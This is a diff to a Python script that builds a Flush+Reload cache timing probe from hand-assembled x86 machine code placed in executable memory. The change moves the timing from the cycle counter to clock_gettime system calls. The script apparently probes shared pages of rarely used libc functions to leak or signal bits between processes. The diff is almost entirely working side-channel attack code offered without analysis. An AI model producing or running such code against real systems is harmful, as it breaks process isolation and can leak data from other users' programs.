@@ -11,8 +11,13 @@ import time
 LIBC = ctypes.CDLL(None, use_errno=True)
 RWX = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
 OWN = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
-# of the address in rdi: cycles that a read takes; then flush it
-RELOAD = "0faef0 0faee8 0f31 48c1e220 4809d0 4989c0 0faee8 488b07 0faee8 0f31 48c1e220 4809d0 4c29c0 0fae3f 0faef0 c3"
+# of the address in rdi: nanoseconds that a read takes, by system calls, as the counter of cycles cannot be read;
+# then flush it
+NOW = "b8 e4000000 bf 01000000 488d7424{} 0f05"  # clock_gettime(CLOCK_MONOTONIC, rsp + ..)
+RELOAD = (
+    f"53 4883ec20 4889fb {NOW.format('00')} 0faef0 488b03 0faee8 {NOW.format('10')} 488b442418 482b442408"
+)
+RELOAD += "7906 480500ca9a3b 0fae3b 0faef0 4883c420 5b c3"  # a second may begin in between
 READ = "488b07 c3"
 LINE, PAGE = 64, 4096
 OBSCURE = ("wordexp", "ether_hostton", "fmtmsg", "getpw", "hcreate", "psiginfo", "rpmatch", "strfmon")
@@ -63,7 +68,7 @@ turns = iter(BITS)
 
 
 def threshold():
-    """Cycles between what is in a cache and what is not, by memory of one's own."""
+    """Nanoseconds between what is in a cache and what is not, by memory of one's own."""
     own = ctypes.create_string_buffer(b"x" * PAGE, PAGE)
     kept.append(own)
     line = ctypes.addressof(own) + 2 * LINE
